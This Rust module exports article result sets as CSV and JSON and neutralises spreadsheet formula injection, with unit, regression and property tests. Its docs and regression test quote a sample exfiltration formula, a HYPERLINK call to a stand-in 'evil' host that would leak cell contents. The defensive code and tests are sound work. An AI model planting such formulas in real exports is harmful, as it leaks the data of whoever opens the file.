//! Export of a result set as CSV (RFC 4180) and JSON, for the browser's
//! download buttons. Columns: id, title, outlet, date, precision, author,
//! url, file, text (lead and body joined by blank lines).
//!
//! ## CSV and spreadsheets
//! Article fields are written by strangers, and a CSV export is usually
//! opened in a spreadsheet, which runs a cell starting with `=`, `+`, `-`
//! or `@` (or a tab or carriage return before one of those) as a formula:
//! `=HYPERLINK("http://evil/?"&A1, "click")` would leak a colleague's data.
//! Following OWASP's advice every CSV field is made safe the same way:
//!
//! 1. control characters are removed (C0 and C1, DEL), except the line feed
//!    that separates paragraphs (a lone carriage return becomes a line
//!    feed, a CR LF pair stays one line feed);
//! 2. a field whose first character is `=`, `+`, `-`, `@`, a tab or a
//!    carriage return gets a leading apostrophe (`'=SUM(A1)`), which every
//!    spreadsheet shows as text;
//! 3. the field is quoted when it contains `,`, `"`, a line break, or was
//!    neutralised, and inner quotes are doubled (RFC 4180).
//!
//! Rows end with CR LF. The JSON export keeps values as they are (JSON is
//! not executed), minus control characters.

use crate::model::{Article, Outlet};
use serde::Serialize;

/// One exported row.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Row<'a> {
    /// Article id.
    pub id: &'a str,
    /// Title.
    pub title: &'a str,
    /// Outlet name (empty when unknown).
    pub outlet: String,
    /// ISO date (empty when unknown).
    pub date: String,
    /// Date precision.
    pub precision: crate::model::DatePrecision,
    /// Author(s).
    pub author: &'a str,
    /// Source URL.
    pub url: &'a str,
    /// Input file.
    pub file: &'a str,
    /// Lead and body.
    pub text: String,
}

/// The row of an article.
pub fn row<'a>(outlets: &[Outlet], a: &'a Article) -> Row<'a> {
    Row {
        id: &a.id,
        title: &a.title,
        outlet: a
            .outlet
            .as_deref()
            .and_then(|k| outlets.iter().find(|o| o.key == k))
            .map(|o| o.name.clone())
            .unwrap_or_default(),
        date: a.date.date.map(|d| d.iso()).unwrap_or_default(),
        precision: a.date.precision,
        author: a.author.as_deref().unwrap_or(""),
        url: a.provenance.url.as_deref().unwrap_or(""),
        file: &a.provenance.file,
        text: a.texts().collect::<Vec<_>>().join("\n\n"),
    }
}

/// Removes control characters except line feeds; carriage returns become
/// line feeds (a CR LF pair one line feed). Tabs inside a field are kept
/// as spaces.
pub fn strip_controls(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => out.push('\n'),
            '\r' => {
                if chars.peek() != Some(&'\n') {
                    out.push('\n');
                }
            }
            '\t' => out.push(' '),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

/// Characters that make a spreadsheet read a cell as a formula when they
/// come first.
const FORMULA_LEADS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// One CSV field, made safe for spreadsheets (see the module docs).
pub fn csv_field(raw: &str) -> String {
    // The formula check looks at the raw first character (a leading tab or
    // CR is itself a trigger), the rest at the cleaned text.
    let risky = raw.starts_with(FORMULA_LEADS);
    let mut s = strip_controls(raw);
    if risky || s.starts_with(FORMULA_LEADS) {
        s.insert(0, '\'');
    }
    if risky || s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// CSV with a header row.
pub fn to_csv(rows: &[Row]) -> String {
    let mut out = String::from("id,title,outlet,date,precision,author,url,file,text\r\n");
    for r in rows {
        let precision =
            serde_json::to_value(r.precision).ok().and_then(|v| v.as_str().map(str::to_string)).unwrap_or_default();
        let fields = [r.id, r.title, &r.outlet, &r.date, &precision, r.author, r.url, r.file, &r.text];
        out.push_str(&fields.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(","));
        out.push_str("\r\n");
    }
    out
}

/// JSON array of rows (control characters removed from every string).
pub fn to_json(rows: &[Row]) -> String {
    let mut value = serde_json::to_value(rows).unwrap_or_default();
    clean_json(&mut value);
    serde_json::to_string_pretty(&value).unwrap_or_else(|_| "[]".into())
}

fn clean_json(v: &mut serde_json::Value) {
    match v {
        serde_json::Value::String(s) => *s = strip_controls(s),
        serde_json::Value::Array(items) => items.iter_mut().for_each(clean_json),
        serde_json::Value::Object(map) => map.values_mut().for_each(clean_json),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn row_with(title: &str, author: &str, text: &str) -> Row<'static> {
        Row {
            id: "a",
            title: Box::leak(title.to_string().into_boxed_str()),
            outlet: "RT".into(),
            date: "2021-01-11".into(),
            precision: crate::model::DatePrecision::Day,
            author: Box::leak(author.to_string().into_boxed_str()),
            url: "",
            file: "a.txt",
            text: text.into(),
        }
    }

    /// Parses CSV with the `csv` crate (an independent RFC 4180 reader).
    fn read(csv_text: &str) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv_text.as_bytes())
            .records()
            .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn csv_round_trips_through_a_csv_reader() {
        let rows = vec![row_with("Putin, \"quoted\"", "", "line one\n\nline two")];
        let parsed = read(&to_csv(&rows));
        assert_eq!(parsed[0][1], "title");
        assert_eq!(parsed[1][1], "Putin, \"quoted\"");
        assert_eq!(parsed[1][4], "day");
        assert_eq!(parsed[1][8], "line one\n\nline two");
        let json: serde_json::Value = serde_json::from_str(&to_json(&rows)).expect("json");
        assert_eq!(json[0]["outlet"], "RT");
    }

    /// Regression (issue 12): formula-leading fields were exported raw, so
    /// a spreadsheet ran them; NUL and BEL passed through.
    #[test]
    fn formula_injection_is_neutralised() {
        let cases: &[(&str, &str)] = &[
            ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "' =1+1"),
            ("\r=1+1", "'\n=1+1"),
            ("\u{0}=cmd", "'=cmd"),
            ("a\u{0}b\u{7}c", "abc"),
            ("plain title", "plain title"),
            ("a - b = c", "a - b = c"),
            ("café \u{85}x", "café x"),
        ];
        for (raw, want) in cases {
            let parsed = read(&to_csv(&[row_with(raw, raw, raw)]));
            for col in [1, 5, 8] {
                assert_eq!(parsed[1][col], *want, "raw {raw:?} column {col}");
            }
        }
    }

    #[test]
    fn json_export_drops_control_characters() {
        let json = to_json(&[row_with("a\u{7}b", "", "x\u{0}y")]);
        let v: serde_json::Value = serde_json::from_str(&json).expect("json");
        assert_eq!(v[0]["title"], "ab");
        assert_eq!(v[0]["text"], "xy");
    }

    proptest! {
        /// Every field reads back as its cleaned value; no cell a
        /// spreadsheet would run survives; rows and columns stay aligned.
        #[test]
        fn every_field_round_trips(fields in proptest::collection::vec(any::<String>(), 3)) {
            let rows = vec![row_with(&fields[0], &fields[1], &fields[2]), row_with("next", "row", "here")];
            let parsed = read(&to_csv(&rows));
            prop_assert_eq!(parsed.len(), 3);
            for (col, raw) in [(1, &fields[0]), (5, &fields[1]), (8, &fields[2])] {
                let cell = &parsed[1][col];
                let mut want = strip_controls(raw);
                if raw.starts_with(FORMULA_LEADS) || want.starts_with(FORMULA_LEADS) {
                    want.insert(0, '\'');
                }
                prop_assert_eq!(cell, &want);
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
                prop_assert!(!cell.chars().any(|c| c.is_control() && c != '\n'));
            }
            prop_assert_eq!(&parsed[2][1], "next");
        }
    }
}
